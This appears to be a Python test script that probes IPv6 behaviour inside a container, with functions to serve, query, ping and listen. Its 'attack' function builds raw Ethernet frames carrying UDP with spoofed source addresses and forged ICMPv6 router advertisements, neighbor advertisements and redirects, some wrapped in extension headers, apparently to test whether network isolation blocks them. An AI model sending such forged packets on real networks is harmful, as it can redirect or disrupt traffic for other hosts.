"""IPv6 inside of a container, tried by hand. Arguments: what to do, and with whom.

serve PORT KIND     answers by TCP and UDP, at `::` alone (only), at `::` for both families (both), or at 0.0.0.0 (four)
ask NAME PORT       what is answered by TCP and UDP at the first address of IPv6 of a name
echo NAME           whether it answers an echo of ICMPv6
meet HOST PORT      what becomes of a connection to an address, and how long it took
hear SECONDS        ICMPv6 of which kinds comes, and datagrams to port 4000; says `hears` first
attack OWN PEER OTHER MAC PEER_MAC NODE...   sends as others, to others, and as routers; at last as itself
"""

import errno
import os
import select
import socket
import struct
import sys
import threading
import time


def serve(port, kind):
    family = socket.AF_INET if kind == "four" else socket.AF_INET6
    name = os.uname().nodename.encode()
    stream, datagrams = socket.socket(family), socket.socket(family, socket.SOCK_DGRAM)
    for one in (stream, datagrams):
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, int(kind == "only"))
        one.bind(("", int(port)))
    stream.listen(16)

    def by_datagrams():
        while True:
            _, who = datagrams.recvfrom(100)
            datagrams.sendto(name, who)

    threading.Thread(target=by_datagrams, daemon=True).start()
    print("serves", flush=True)
    while True:
        client, _ = stream.accept()
        client.sendall(name)
        client.close()


def ask(name, port):
    at = socket.getaddrinfo(name, int(port), socket.AF_INET6, socket.SOCK_STREAM)[0][4]
    client = socket.create_connection(at[:2], 10)
    print(client.recv(100).decode(), client.getpeername()[0], end=" ")
    client = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    client.settimeout(10)
    client.sendto(b"?", at)
    answer, who = client.recvfrom(100)
    print(answer.decode(), who[0])


def echo(name):
    at = socket.getaddrinfo(name, 0, socket.AF_INET6, socket.SOCK_DGRAM)[0][4]
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    raw.settimeout(10)
    raw.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 7) + b"hello", at)
    while True:
        answer, who = raw.recvfrom(100)
        if answer[0] == 129:
            print("echo", who[0])
            return


def meet(host, port):
    begun = time.monotonic()
    try:
        client = socket.create_connection((host, int(port)), 10)
        client.settimeout(10)
        print("reached", client.recv(100))
    except OSError as why:
        is_prompt = "at once" if time.monotonic() - begun < 1 else "late"
        print(errno.errorcode.get(why.errno, type(why).__name__), is_prompt)


def hear(seconds):
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    datagrams = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    datagrams.bind(("", 4000))
    print("hears", flush=True)
    until = time.monotonic() + float(seconds)
    while (left := until - time.monotonic()) > 0:
        for one in select.select([raw, datagrams], [], [], left)[0]:
            data, who = one.recvfrom(2000)
            if one is raw:
                print("kind", data[0], who[0], flush=True)
            else:
                print("datagram", data.decode(), who[0], flush=True)
                if data == b"last":
                    return


def summed(source, target, kind, body, at):
    pseudo = source + target + struct.pack("!II", len(body), kind) + body + bytes(len(body) % 2)
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return body[:at] + struct.pack("!H", ~total & 0xFFFF) + body[at + 2 :]


def attack(own, peer, other, mac, peer_mac, *nodes):
    number = lambda address: socket.inet_pton(socket.AF_INET6, address)
    own, peer, other, *nodes = map(number, (own, peer, other, *nodes))
    mac, peer_mac = (bytes.fromhex(text.replace(":", "")) for text in (mac, peer_mac))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))

    def send(source, target, kind, body, to=peer_mac, of=mac):
        head = struct.pack("!IHBB", 6 << 28, len(body), kind, 255)
        wire.send(to + of + b"\x86\xdd" + head + source + target + body)

    def datagram(source, target, said, **more):
        body = struct.pack("!HHHH", 4242, 4000, 8 + len(said), 0) + said
        send(source, target, 17, summed(source, target, 17, body, 6), **more)

    def icmp(source, target, kind, body, before=b"", first=58, **more):
        message = summed(source, target, 58, bytes([kind, 0, 0, 0]) + body, 2)
        send(source, target, first, before + message, **more)

    link, every, routers = map(number, ("fe80::5444:ff:fe00:100", "ff02::1", "ff02::2"))
    group = bytes.fromhex("333300000001")
    for source in (other, link, number("::1"), number("2001:db8::1")):
        datagram(source, peer, b"spoofed")
    datagram(own, peer, b"spoofed below", of=peer_mac)
    datagram(own, every, b"to all", to=group)
    router = bytes([64, 0, 7, 8]) + bytes(8) + bytes([1, 1]) + mac
    is_at = bytes([0x60, 0, 0, 0]) + other + bytes([2, 1]) + mac
    asks = bytes(4) + peer + bytes([1, 1]) + mac
    for source in (own, link, other):
        for target, to in ((peer, peer_mac), (every, group), (routers, group), *((node, group) for node in nodes)):
            for kind, body in ((133, bytes(4)), (134, router), (135, asks), (136, is_at), (137, bytes(4) + own + other)):
                icmp(source, target, kind, body, to=to)
                for first in (0, 43, 60):
                    icmp(source, target, kind, body, before=bytes([58, 0, 1, 4, 0, 0, 0, 0]), first=first, to=to)
                icmp(source, target, kind, body, before=bytes([58, 0, 0, 0, 0, 0, 0, 1]), first=44, to=to)
    for node in nodes:
        for to in (peer_mac, mac, group, b"\xff" * 6):
            datagram(own, node, b"to the node", to=to)
            icmp(own, node, 128, bytes(4), to=to)
    datagram(own, peer, b"last")
    print("done")


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
